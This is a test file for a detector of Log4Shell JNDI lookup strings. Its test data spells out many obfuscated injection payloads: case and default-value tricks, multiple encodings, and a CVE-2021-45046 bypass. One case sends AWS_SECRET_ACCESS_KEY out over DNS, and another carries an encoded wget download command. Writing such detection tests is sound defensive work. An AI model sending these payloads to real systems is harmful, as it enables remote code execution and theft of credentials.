import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { findJndiLookups } from '../../../src/sensor/jndi/lookup.ts'

const targets = (text: string): string[] => findJndiLookups(text).map(({ resolved }) => resolved)
const PLAIN = '${jndi:ldap://x.example/a}'

describe('the detector of JNDI lookups', () => {
  it.each([
    ['plain', '${jndi:ldap://x.example/a}'],
    ['in mixed case', '${JnDi:ldap://x.example/a}'],
    ['of defaults', '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}'],
    ['of an unknown prefix with a default', '${${test:by:d2lab:-j}ndi:ldap://x.example/a}'],
    ['of lower and upper', '${${lower:J}${lower:n}d${lower:${upper:i}}:l${lower:D}ap://x.example/a}'],
    ['of dates', "${jndi${date:':'}ldap:${date:'/'}${date:'/'}x.example/a}"],
    ['of environment with a default', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}'],
    ['of system properties with a default', '${jndi:${sys:none:-ldap}://x.example/a}'],
    ['of base64', '${${base64:am5kaQ==}:ldap://x.example/a}'],
    ['inside other text', 'Mozilla/5.0 {"a": "${jndi:ldap://x.example/a}"} '],
    ['percent encoded', '%24%7Bjndi:ldap://x.example/a%7D'],
    ['percent encoded twice', '%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%252Fa%257D'],
    ['with an encoded bracket alone', '$%7Bjndi:ldap://x.example/a}'],
    ['with Unicode escapes', '\\u0024\\u007bjndi:ldap:\\u002f/x.example/a}'],
    ['with HTML entities', '&#36;&#123;jndi:ldap://x.example/a&#x7d;'],
    ['as base64 of a Basic login', `Basic ${Buffer.from('${jndi:ldap://x.example/a}:pw').toString('base64')}`],
    ['as base64 at another offset', `Basic ${Buffer.from('u:${jndi:ldap://x.example/a}').toString('base64')}`],
    ['nested three deep', '${${upper:${lower:${::-j}}}ndi:ldap://x.example/a}'],
  ])('reads one %s', (_, text) => {
    expect(targets(text).map((t) => t.toLowerCase())).toContain(PLAIN)
  })

  it('reads one that is never closed', () => {
    expect(findJndiLookups('${${::-j}ndi:rmi://x.example:1099/o')[0]).toMatchObject({
      scheme: 'rmi',
      host: 'x.example',
      port: 1099,
      path: '/o',
    })
  })

  it('leaves what only the attacked machine knows, and says what was asked for', () => {
    const [lookup] = findJndiLookups('${jndi:dns://${hostName}.${env:AWS_SECRET_ACCESS_KEY}.x.example}')
    expect(lookup).toMatchObject({ scheme: 'dns', host: '${hostName}.${env:AWS_SECRET_ACCESS_KEY}.x.example' })
    expect(lookup?.asksFor).toEqual(['hostName', 'env:AWS_SECRET_ACCESS_KEY'])
  })

  it('names the host behind the # of CVE-2021-45046', () => {
    expect(findJndiLookups('${jndi:ldap://127.0.0.1#.x.example:1389/a}')[0]).toMatchObject({
      host: '.x.example',
      port: 1389,
      cves: ['CVE-2021-44228', 'CVE-2021-45046'],
    })
  })

  it('reads the command that a path carries', () => {
    const path = `Basic/Command/Base64/${Buffer.from('wget 203.0.113.9/x.sh').toString('base64')}`
    expect(findJndiLookups(`\${jndi:ldap://203.0.113.9:1389/${path}}`)[0]?.command).toBe('wget 203.0.113.9/x.sh')
  })

  it('finds nothing in shell variables, templates and prices', () => {
    for (const text of ['echo ${HOME}', '${lower:abc}', 'it costs $5 {jndi:ldap}', '%24%7BPATH%7D', '`${x}`'])
      expect(targets(text)).toEqual([])
  })

  it('ends soon on five million bytes of nesting', () => {
    for (const text of ['${'.repeat(2_500_000), '${jndi:'.repeat(700_000), '${lower:'.repeat(30_000) + '}'.repeat(30_000)]) {
      const before = performance.now()
      findJndiLookups(text)
      expect(performance.now() - before).toBeLessThan(100)
    }
  })

  it('throws at no text, and finds every disguise that is put together of letters', () => {
    const disguise = fc.constantFrom(
      (c: string) => c,
      (c: string) => `\${::-${c}}`,
      (c: string) => `\${lower:${c.toUpperCase()}}`,
      (c: string) => `\${env:NOPE:-${c}}`,
      (c: string) => `\${\${::-l}ower:${c}}`,
    )
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('$', '{', '}', ':', '-', '\\', 'j', 'n', 'd', 'i', '%', '2', '4', '&', '#') }), (t) => {
        findJndiLookups(t)
      }),
    )
    fc.assert(
      fc.property(fc.array(disguise, { minLength: 9, maxLength: 9 }), (by) => {
        const hidden = [...'jndi:ldap'].map((c, n) => (c === ':' ? ':' : by[n]!(c))).join('')
        expect(targets(`\${${hidden}://x.example/a}`)).toEqual([PLAIN])
      }),
    )
  })
})
